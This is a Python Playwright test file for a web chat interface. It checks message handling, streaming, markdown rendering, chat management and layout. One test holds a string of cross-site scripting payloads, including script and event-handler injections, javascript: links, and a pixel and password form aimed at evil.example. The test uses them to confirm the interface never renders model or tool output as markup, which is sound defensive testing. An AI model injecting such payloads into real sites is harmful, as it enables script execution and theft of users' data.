"""The web chat as a person uses it, in Chromium."""

from __future__ import annotations

import re
from contextlib import AsyncExitStack
from pathlib import Path

import pytest
from playwright.async_api import expect
from tests.peers.programs import free_port
from tests.server.world import served
from tests.web.browser import window

from nanobot.config.model import Agent
from nanobot.config.places import Reference
from nanobot.testing.model_server import Reply, ScriptedCall

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

DEMO = Agent(
    id="demo",
    name="Demo",
    description="Shows what there is to see.",
    model="demo",
    mcp_servers=(Reference(server="nanobot.system"),),
    starter_messages=("list tools",),
)

ATTACKS = """\
<script>window.hacked = 1; alert(1)</script> <img src=x onerror="window.hacked = 1; alert(2)">
<svg onload=alert(3)><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>

[click](javascript:window.hacked=1) [click](data:text/html,<script>alert(1)</script>) [a](vbscript:x)
[b]( java\tscript:alert(1)) <javascript:alert(1)> ![leak](https://evil.example/pixel.png?secret)

<form action="https://evil.example"><input name=password><button>Go</button></form>

```<img src=x onerror=alert(4)>
</code></pre><script>window.hacked = 1</script>
```

| <b onclick=alert(5)>x</b> | [x](javascript:alert(6)) |
|---|---|
| <style>*{display:none}</style> | `<script>` |

The end of the attack.
"""


async def test_a_message_is_answered_with_a_tool_and_stays_after_a_reload(tmp_path: Path) -> None:
    (tmp_path / "files").mkdir()
    async with served(tmp_path, first=(DEMO,)) as nanobot, window(nanobot.url) as chat:
        page = chat.page
        await expect(page.get_by_role("heading", name="Demo")).to_be_visible()
        await page.get_by_role("button", name="list tools").click()
        await expect(page.get_by_role("textbox", name="Message")).to_have_value("list tools")

        await chat.say(
            'call write {"file_path": "note.txt", "content": "remember the milk"} then read note.txt'
        )
        await expect(page).to_have_url(re.compile(r"/c/[0-9a-f-]{36}$"))
        log = page.get_by_role("log")
        await expect(log.get_by_text("call write")).to_be_visible()
        cards = log.locator("details.tool")
        await expect(cards).to_have_count(2)
        await expect(cards.nth(0)).to_contain_text("write")
        await expect(cards.nth(0)).to_contain_text("nanobot.system")
        await expect(cards.nth(1)).to_have_attribute("data-state", "ok")
        await cards.nth(1).locator("summary").click()
        await expect(cards.nth(1)).to_contain_text("remember the milk")
        await expect(page.get_by_role("button", name="Send")).to_be_visible()
        await chat.picture("chat-light")

        title = page.get_by_role("navigation").get_by_role("link").first
        await expect(title).to_contain_text("call write")
        said = await log.locator("article").all_inner_texts()
        await page.reload()
        await expect(log.locator("article")).to_have_count(len(said))
        await expect(log.locator("details.tool")).to_have_count(2)
        await expect(page.get_by_role("navigation").locator("a[aria-current=page]")).to_contain_text(
            "call write"
        )
        chat.assert_content()


async def test_text_appears_while_it_is_written_and_the_turn_can_be_stopped(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url) as chat:
        log = chat.page.get_by_role("log")
        nanobot.model.queue(Reply(text="slowly " * 200 + "finished", pause_ms=40))
        await chat.say("Tell me a story")
        await expect(log.get_by_text("slowly slowly")).to_be_visible()
        await expect(chat.page.get_by_role("status")).to_have_text("Responding.")
        await chat.page.get_by_role("button", name="Stop").click()
        await expect(log).to_contain_text("Stopped.")
        await expect(log).not_to_contain_text("finished")
        await expect(chat.page.get_by_role("button", name="Send")).to_be_visible()

        nanobot.model.queue(Reply(text="A new answer."))
        await chat.say("Again")
        await expect(log).to_contain_text("A new answer.")
        await expect(chat.page.get_by_role("status")).to_have_text("Done.")
        chat.assert_content()


async def test_a_message_sent_while_a_turn_runs_waits_and_is_answered(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url) as chat:
        log = chat.page.get_by_role("log")
        nanobot.model.queue(Reply(text="first " * 30, pause_ms=20), Reply(text="second answer"))
        await chat.say("one")
        await expect(log.get_by_text("first first")).to_be_visible()
        await chat.say("two")
        await expect(log.locator("article.waiting")).to_have_text(re.compile("two"))
        await expect(log).to_contain_text("second answer")
        await expect(log.locator("article.waiting")).to_have_count(0)
        await expect(log.locator("article.user")).to_have_count(2)
        chat.assert_content()


async def test_nothing_a_model_or_a_tool_says_is_markup(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url) as chat:
        page, log = chat.page, chat.page.get_by_role("log")
        call = ScriptedCall("<img src=x onerror=alert(7)>", {"html": ATTACKS})
        nanobot.model.queue(Reply(reasoning=ATTACKS, text=ATTACKS, calls=(call,)), Reply(text=ATTACKS))
        await chat.say(ATTACKS)
        await expect(log.locator("article.assistant").last).to_contain_text("The end of the attack.")
        for summary in await log.locator("summary").all():
            await summary.click()
        await page.reload()
        await expect(log.locator("article.assistant").last).to_contain_text("The end of the attack.")
        assert await page.evaluate("window.hacked") is None
        forbidden = (
            "#log :is(script, iframe, form, input, img, style, object, embed, [style], [onclick], [onload])"
        )
        assert await page.locator(forbidden).count() == 0
        links = await log.locator("a").evaluate_all("all => all.map(a => [a.protocol, a.rel, a.target])")
        assert links
        assert {protocol for protocol, _, _ in links} == {"https:"}
        assert {(rel, target) for _, rel, target in links} == {("noopener noreferrer nofollow", "_blank")}
        await expect(page.get_by_role("navigation").get_by_role("link").first).to_contain_text("<script>")
        chat.assert_content()


async def test_markdown_is_shown_as_what_it_means(tmp_path: Path) -> None:
    text = (
        "# Title\n\nSome **bold**, *slanted* and `code`, a [link](https://example.org/a_(b)).\n\n"
        "1. one\n2. two\n   - nested\n\n```python\nprint('<b>')\n```\n\n> quoted\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    async with served(tmp_path) as nanobot, window(nanobot.url, dark=True) as chat:
        answer = chat.page.get_by_role("log").locator(".markdown")
        nanobot.model.queue(Reply(text=text))
        await chat.say("show")
        await expect(answer.locator("td").last).to_have_text("2")
        shape = await answer.evaluate("node => [...node.children].map(child => child.tagName)")
        assert shape == ["H3", "P", "OL", "FIGURE", "BLOCKQUOTE", "DIV"]
        await expect(answer.locator("strong")).to_have_text("bold")
        await expect(answer.locator("em")).to_have_text("slanted")
        await expect(answer.locator("ol > li > ul > li")).to_have_text("nested")
        await expect(answer.locator("pre code")).to_have_text("print('<b>')")
        await expect(answer.locator("p a")).to_have_attribute("href", "https://example.org/a_(b)")
        await chat.picture("chat-dark")
        chat.assert_content()


async def test_a_failed_turn_says_why_and_can_be_tried_again(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url) as chat:
        log = chat.page.get_by_role("log")
        nanobot.model.queue(Reply(status=401, error_message="wrong key"), Reply(text="Now it works."))
        await chat.say("Hello?")
        retry = log.get_by_role("button", name="Retry")
        await expect(retry).to_be_visible()
        await retry.click()
        await expect(log).to_contain_text("Now it works.")
        await expect(retry).to_have_count(0)
        chat.assert_content()


async def test_chats_are_switched_and_deleted(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url) as chat:
        page = chat.page
        log, nav = page.get_by_role("log"), page.get_by_role("navigation")
        for name in ("apples", "pears"):
            await page.get_by_role("link", name="New chat").click()
            nanobot.model.queue(Reply(text=f"About {name}."))
            await chat.say(f"Tell me of {name}")
            await expect(log).to_contain_text(f"About {name}.")
        await nav.get_by_role("link", name="apples").click()
        await expect(log).to_contain_text("About apples.")
        await expect(log).not_to_contain_text("About pears.")
        await page.go_back()
        await expect(log).to_contain_text("About pears.")

        await nav.get_by_role("button", name="Delete chat Tell me of pears").click()
        await page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
        await expect(nav.get_by_role("link")).to_have_count(2)
        await nav.get_by_role("button", name="Delete chat Tell me of pears").click()
        await page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        await expect(nav.get_by_role("link")).to_have_count(1)
        await expect(page).to_have_url(nanobot.url + "/")
        chat.assert_content()


async def test_the_agent_that_was_picked_answers(tmp_path: Path) -> None:
    async with served(tmp_path, first=(DEMO,)) as nanobot, window(nanobot.url) as chat:
        await chat.page.get_by_label("Agent").select_option("other")
        nanobot.model.queue(Reply(text="I am the other one."))
        await chat.say("Who are you?")
        await expect(chat.page.get_by_role("log")).to_contain_text("I am the other one.")
        chat.assert_content()


async def test_a_narrow_screen_shows_everything_and_keeps_the_chats_in_a_drawer(tmp_path: Path) -> None:
    async with served(tmp_path, first=(DEMO,)) as nanobot, window(nanobot.url, width=320, height=640) as chat:
        page = chat.page
        await expect(page.get_by_role("link", name="New chat")).to_be_hidden()
        await chat.say("list tools")
        await expect(page.get_by_role("log")).to_contain_text("write")
        assert await page.evaluate("document.documentElement.scrollWidth") == 320
        menu = page.get_by_role("button", name="Chats")
        await menu.click()
        await expect(page.get_by_role("link", name="New chat")).to_be_visible()
        await page.keyboard.press("Escape")
        await expect(page.get_by_role("link", name="New chat")).to_be_hidden()
        await expect(menu).to_be_focused()
        await chat.picture("chat-narrow")
        chat.assert_content()


async def test_shift_enter_makes_a_line_and_composition_is_left_alone(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url) as chat:
        box = chat.page.get_by_role("textbox", name="Message")
        await box.press_sequentially("one")
        await box.press("Shift+Enter")
        await box.press_sequentially("two")
        await box.dispatch_event("keydown", {"key": "Enter", "isComposing": True})
        await expect(box).to_have_value("one\ntwo")
        await box.press("Enter")
        await expect(chat.page.get_by_role("log").locator("article.user")).to_contain_text("one")
        await expect(box).to_have_value("")
        chat.assert_content()


async def test_the_view_follows_only_a_reader_at_the_bottom(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url, height=500) as chat:
        page = chat.page
        scroller = page.locator("#scroller")
        latest = page.get_by_role("button", name="Jump to latest")
        nanobot.model.queue(Reply(text="line\n\n" * 80), Reply(text="more\n\n" * 60, pause_ms=10))
        await chat.say("go")
        await expect(page.get_by_role("status")).to_have_text("Done.")
        await expect(latest).to_be_hidden()
        await scroller.evaluate("node => node.scrollTop = 100")
        await expect(latest).to_be_visible()
        sent = await nanobot.ask(
            "POST", f"/api/threads/{page.url.rpartition('/')[2]}/messages", {"text": "from elsewhere"}
        )
        assert sent.json["stop"] == "completed"
        await expect(page.get_by_role("log")).to_contain_text("more")
        assert await scroller.evaluate("node => node.scrollTop") == 100
        await latest.click()
        await expect(latest).to_be_hidden()
        chat.assert_content()


async def test_a_link_with_a_question_fills_the_box_and_sends_nothing(tmp_path: Path) -> None:
    async with served(tmp_path) as nanobot, window(nanobot.url + "/?q=What+is+new%3F") as chat:
        await expect(chat.page.get_by_role("textbox", name="Message")).to_have_value("What is new?")
        assert (await nanobot.ask("GET", "/api/threads")).json == {"threads": []}


async def test_a_chat_that_does_not_exist_is_said_to_be_missing(tmp_path: Path) -> None:
    missing = "/c/00000000-0000-4000-8000-000000000000"
    async with served(tmp_path) as nanobot, window(nanobot.url + missing) as chat:
        await expect(chat.page.get_by_role("alert")).to_contain_text("There is no such chat")


async def test_when_the_server_comes_back_the_conversation_goes_on_where_it_was(tmp_path: Path) -> None:
    port = free_port()
    async with AsyncExitStack() as stack:
        async with served(tmp_path, port=port) as nanobot:
            chat = await stack.enter_async_context(window(nanobot.url))
            log, alert = chat.page.get_by_role("log"), chat.page.get_by_role("alert")
            await chat.say("hello")
            await expect(log).to_contain_text("Hello from the scripted model.")
        await expect(alert).to_contain_text("The connection is interrupted")
        await expect(log).to_contain_text("Hello from the scripted model.")
        async with served(tmp_path, port=port) as nanobot:
            await expect(alert).to_be_hidden()
            nanobot.model.queue(Reply(text="Here again."))
            await chat.say("Still there?")
            await expect(log).to_contain_text("Here again.")
            await expect(log.locator("article")).to_have_count(4)
